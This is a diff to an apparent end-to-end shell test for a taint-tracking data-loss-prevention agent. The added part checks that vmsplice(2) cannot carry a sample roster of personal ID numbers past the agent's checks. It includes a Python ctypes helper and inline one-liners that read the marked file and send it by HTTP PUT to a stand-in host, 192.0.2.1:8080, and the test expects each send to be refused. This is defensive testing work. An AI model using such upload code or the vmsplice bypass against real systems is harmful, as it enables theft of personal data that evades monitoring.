@@ -11,7 +11,9 @@
 # to allowed by itself), so the test fails both ways. With the learner held up (its parser
 # workers stopped) the refusals are "content not yet classified"; Class I content read and
 # then overwritten with Class III content before the learner came is still refused. A program
-# that creates a file write-only and sends is not held (nothing was read).
+# that creates a file write-only and sends is not held (nothing was read). vmsplice(2), which
+# no file_permission check sees, carries taint both ways: into a pipe (its reader is refused)
+# and out of a marked pipe (also when the call waited before the tainted writer wrote).
 # e2e-timeout: 600
 . "$E2E_SRCDIR/guest/agent.sh"
 . "$E2E_SRCDIR/guest/taint.sh"
@@ -290,3 +292,63 @@ grep -q WRITEONLY-FILE "$recv" || fail "write-only: the listener did not receive
 : >"$recv"
 note "write-only: $(cat "$E2E_SCRATCH/writeonly.out" | tr '\n' ' '); pending marks +$(($(status taint_pending_set) - ps0)), pending reads +$(($(status taint_pending_read) - pr0))"
 
+# vmsplice(2) moves user memory into a pipe, or pipe pages out to user memory, with no
+# file_permission check of the pipe. A tainted writer's vmsplice into a pipe must mark it
+# (its untainted reader, which connected first, is then refused), and an untainted reader's
+# vmsplice out of a marked pipe must taint it, also when it waited in the call before the
+# tainted writer wrote (python3 through ctypes: it has no os.vmsplice).
+V=$U/vms-roster.csv
+# (Counted before the file is written: the learner may judge it from the writer's open.)
+marked=$(status taint_marked)
+e2e_as hanako sh -c "printf '氏名,個人番号\n山田,123456789018\nVMSPLICE-SECRET\n' >'$V'"
+for ((j = 0; j < 100; j++)); do
+	[ "$(status taint_marked)" -gt "$marked" ] && break
+	e2e_as hanako cat "$V" >/dev/null || true
+	sleep 0.2
+done
+[ "$(status taint_marked)" -gt "$marked" ] || fail "vmsplice: the agent never marked $V"
+cat >"$E2E_SCRATCH/vms.py" <<'PY'
+import ctypes, os, socket, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+class iovec(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+def vmsplice(fd, buf, n):
+    iov = iovec(ctypes.cast(buf, ctypes.c_void_p), n)
+    r = libc.vmsplice(fd, ctypes.byref(iov), ctypes.c_ulong(1), ctypes.c_uint(0))
+    if r < 0:
+        raise OSError(ctypes.get_errno(), "vmsplice")
+    return r
+if sys.argv[1] == "write":  # read FILE, vmsplice it into stdout (a pipe)
+    d = open(sys.argv[2], "rb").read()
+    buf = ctypes.create_string_buffer(d, len(d))
+    print("vmspliced", vmsplice(1, buf, len(d)), file=sys.stderr)
+    time.sleep(3)  # the pages stay this process's until the reader took them
+else:  # connect, then vmsplice out of stdin (a pipe), then send what came
+    s = socket.create_connection(("192.0.2.1", 8080), 10)
+    s.sendall(b"PUT /up HTTP/1.0\r\nContent-Length: 200\r\n\r\n")
+    if len(sys.argv) > 2:
+        open(sys.argv[2], "w").close()
+    buf = ctypes.create_string_buffer(65536)
+    n = vmsplice(0, buf, 65536)
+    print("read", n, file=sys.stderr)
+    s.sendall(buf.raw[:n])
+PY
+chmod 0644 "$E2E_SCRATCH/vms.py"
+vdenied() { # NAME COMMAND: as hanako, must not deliver the roster, and one more refusal logged
+	local name=$1 before rc=0 i
+	before=$(denials)
+	e2e_as hanako timeout 30 bash -c "$2" >"$E2E_SCRATCH/$name.out" 2>&1 || rc=$?
+	[ "$rc" -ne 124 ] || fail "$name: hung: $(cat "$E2E_SCRATCH/$name.out")"
+	[ "$rc" -ne 0 ] || fail "$name: succeeded (exit 0): $(cat "$E2E_SCRATCH/$name.out")"
+	if grep -q VMSPLICE-SECRET "$recv"; then fail "$name: the listener received the roster: $(cat "$E2E_SCRATCH/$name.out")"; fi
+	for ((i = 0; i < 50; i++)); do
+		[ "$(denials)" -gt "$before" ] && break
+		sleep 0.1
+	done
+	[ "$(denials)" -gt "$before" ] || fail "$name: no upload.denied (bpf-lsm) logged"
+	grep -q "^read [1-9]" "$E2E_SCRATCH/$name.out" || fail "$name: refused before the reader read: $(cat "$E2E_SCRATCH/$name.out")"
+	note "$name: refused (exit $rc), logged"
+}
+vdenied vmsplice-into-pipe "python3 '$E2E_SCRATCH/vms.py' write '$V' | python3 -c 'import os,socket,sys; s=socket.create_connection((\"192.0.2.1\", 8080), 10); s.sendall(b\"PUT /up HTTP/1.0\r\nContent-Length: 200\r\n\r\n\"); d=os.read(0, 65536); print(\"read\", len(d), file=sys.stderr); s.sendall(d)'"
+rm -f "$shm/vms.ready"
+vdenied vmsplice-out-of-pipe "(for i in \$(seq 100); do [ -e '$shm/vms.ready' ] && break; sleep 0.1; done; sleep 1; cat '$V') | python3 '$E2E_SCRATCH/vms.py' read '$shm/vms.ready'"
